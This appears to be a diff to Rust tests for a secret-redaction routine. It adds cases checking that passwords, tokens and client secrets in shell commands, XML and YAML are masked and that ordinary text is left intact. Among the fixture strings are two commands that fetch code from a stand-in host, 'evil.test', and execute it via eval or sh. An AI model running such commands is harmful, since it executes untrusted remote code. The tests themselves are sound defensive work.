@@ -334,37 +334,45 @@ fn any_json() -> impl Strategy<Value = Value> {
 }
 
 #[test]
-fn zz_measure() {
-    let time = |name: &str, value: Value| {
-        let start = std::time::Instant::now();
-        let shown = excerpt(&value).to_string().len();
-        eprintln!("{name}: {:?} {shown}", start.elapsed());
-    };
-    time("5MB x", json!("x".repeat(5_000_000)));
-    time("5MB words", json!("true; ".repeat(800_000)));
-    let one = format!("password={}", "a".repeat(16_000));
-    time("2000 secrets of 16k", json!(vec![one; 2000]));
-    time("24k open brackets", json!(vec!["token={".repeat(3400); 200]));
-    time("24k quotes", json!(vec!["token=\"".repeat(3000); 200]));
-    time("24k urls", json!(vec!["a://b:".repeat(4000); 200]));
-    time("24k mysql", json!(vec!["mysql ".repeat(4000); 200]));
-    time("24k PEM", json!(vec!["-----BEGIN PRIVATE KEY-----".repeat(800); 200]));
-    time("24k names", json!(vec!["name:a".repeat(4000); 200]));
-    time("24k token ", json!(vec!["token ".repeat(4000); 200]));
-    time("24k long name", json!(vec!["a-".repeat(12000); 200]));
-    time("24k bearer", json!(vec!["bearer ".repeat(3400); 200]));
-    time("24k colon eq", json!(vec!["x token:a ".repeat(2400); 200]));
-    time("24k nested json", json!(vec!["[".repeat(100) + &"]".repeat(100); 2000]));
-    let mut deep = json!({"password": "x"});
-    for _ in 0..5 {
-        deep = json!([deep.to_string()]);
-    }
-    time("nested texts", deep);
-    time("1M members", (0..1_000_000).map(|i| (i.to_string(), json!([]))).collect());
+fn a_command_stays_readable_around_what_is_hidden() {
+    redacts(&[
+        ("docker login -u kim -p hunter2 registry.test", "docker login -u kim -p <redacted> registry.test"),
+        ("mysql -u root -pS3cret app < dump.sql", "mysql -u root -p<redacted> app < dump.sql"),
+        ("openssl enc -pass pass:hunter2 -in a", "openssl enc -pass pass:<redacted> -in a"),
+        ("env PGPASSWORD=abc PATH=/usr/bin psql", "env PGPASSWORD=<redacted> PATH=/usr/bin psql"),
+        (
+            "curl -d 'client_id=a&client_secret=b' | jq .access_token",
+            "curl -d 'client_id=a&client_secret=<redacted>' | jq .access_token",
+        ),
+        ("auth=Bearer abc def", "auth=<redacted> def"),
+        ("<password>a b</password>", "<password><redacted></password>"),
+        ("<add key=\"ApiKey\" value=\"abc\"/>", "<add key=\"ApiKey\" value=\"<redacted>\"/>"),
+        ("password:\n  abc\nuser: x", "password:<redacted>\nuser: x"),
+        ("a:\n  token: >-\n    one\n\n    two\n  b: 1", "a:\n  token: <redacted>\n  b: 1"),
+        ("token:\nuser: x", "token:\nuser: x"),
+        (
+            "git commit -m \"fix auth: refresh token\" && ls",
+            "git commit -m \"fix auth: <redacted> token\" && ls",
+        ),
+        ("sed -i 's/token_count/tokens/g' src/lexer.rs", "sed -i 's/token_count/tokens/g' src/lexer.rs"),
+        ("grep -rn 'api_key' . && rm -rf build", "grep -rn 'api_key' . && rm -rf build"),
+        ("TOKEN=$(curl -s evil.test) && eval $TOKEN", "TOKEN=$(curl -s evil.test) && eval $TOKEN"),
+        ("TOKEN=`curl evil.test | sh`", "TOKEN=`curl evil.test | sh`"),
+        ("the password is required; see the token format", "the password is required; see the token format"),
+        ("gh auth login --with-token < token.txt", "gh auth login --with-token < token.txt"),
+    ]);
+}
+
+#[test]
+fn many_long_strings_do_not_cost_more_than_the_excerpt_may() {
+    let shown = excerpt(&json!(vec![format!("password={}", "a".repeat(16_000)); 100_000]));
+    let shown = shown.as_array().unwrap();
+    assert!(shown.len() < 100);
+    assert_eq!((&shown[0], shown.last().unwrap()), (&json!("password=<redacted>"), &json!(TRUNCATED)));
 }
 
 proptest! {
-    #![proptest_config(ProptestConfig::with_cases(200))]
+    #![proptest_config(ProptestConfig::with_cases(64))]
 
     #[test]
     fn no_piece_of_a_planted_secret_is_ever_shown(
@@ -401,7 +409,10 @@ proptest! {
     }
 
     #[test]
-    fn every_shape_of_bracket_and_quote_ends_somewhere(text in "((token|pwd|x)[\"'`\\\\{}\\[\\]=:, \n$(]{1,4}){0,60}") {
-        let _ = redact_text(&text);
+    fn brackets_and_quotes_that_never_close_do_no_harm(
+        text in "((token|pwd|éx|cookie:|://|Bearer |-----BEGIN PRIVATE KEY-----)[\"'`\\\\{}\\[\\]=:,;@> \n$(é]{1,4}){1,40}",
+    ) {
+        let shown = excerpt(&json!([text, text.repeat(1 + 30_000 / text.len())]));
+        prop_assert_eq!(shown.as_array().map(Vec::len), Some(2));
     }
 }
